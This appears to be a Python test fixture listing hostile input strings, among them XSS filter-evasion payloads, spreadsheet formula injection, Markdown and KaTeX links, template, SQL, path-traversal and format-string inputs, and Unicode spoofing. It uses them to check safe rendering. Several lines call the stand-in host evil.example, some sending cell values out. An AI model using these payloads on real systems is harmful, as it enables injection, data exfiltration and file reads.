"""Texts that would run, load or break something where they are not taken as text.

One or more of each family of the OWASP cheat sheet on XSS filter evasion, of formula injection in spreadsheets, of
Markdown, KaTeX and Streamlit's own directives, of templates, SQL and paths. What runs opens a dialog; what loads asks
`evil.example`.
"""

from __future__ import annotations

SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<ScRiPt/x>alert(1)</ScRiPt >",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<SCRIPT SRC=//evil.example/.j>",
    '"><script>alert(1)</script>',
    "'';!--\"<XSS>=&{()}",
    "</textarea></title></style><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    "<img src=x:x onerror&#61;alert(1)>",
    '<img src="https://evil.example/a.png">',
    "<IMG LOWSRC=\"javascript:alert(1)\" DYNSRC='javascript:alert(1)'>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<BODY ONLOAD=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
)
FRAMES = (
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    '<EMBED SRC="https://evil.example/x.swf">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    '<BASE HREF="https://evil.example/">',
    '<LINK REL="stylesheet" HREF="https://evil.example/x.css">',
    "<STYLE>@import'https://evil.example/x.css';</STYLE>",
    '<DIV STYLE="background-image: url(https://evil.example/a.png)">',
    '<DIV STYLE="width: expression(alert(1));">',
    "<form action=javascript:alert(1)><button>go</button></form>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "file:///etc/passwd",
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "![x](https://evil.example/a.png)",
    "![x][1]\n\n[1]: https://evil.example/b.png",
    '[x](https://evil.example "a" onmouseover=alert(1))',
    "<https://evil.example>",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\includegraphics{https://evil.example/a.png}$$",
    ":red[x] :material/bomb: :streamlit: :red-badge[x] :blue-background[x]",
    "# x\n- y\n> z\n```\nalert(1)\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | ![x](https://evil.example/c.png) |",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"x")',
    '=WEBSERVICE("https://evil.example")',
    '=IMPORTXML(CONCAT("https://evil.example?v=",A1),"//a")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+9)*cmd|" /C calc"!A0',
    "'=1+1",
)
OTHERS = (
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "__import__('os').system('true')",
    "'); DROP TABLE observation; --",
    '" OR 1=1 --',
    "../../../../etc/passwd",
    "%s%s%n {0.__class__} %(x)s",
    "\u202egnp.exe \u200b\ufeff\u2066",
    "datum['x'] + warn(1)",
)
FAMILIES = (SCRIPTS, HANDLERS, FRAMES, ADDRESSES, MARKDOWN, FORMULAS, OTHERS)
HOSTILE = tuple(text for family in FAMILIES for text in family)
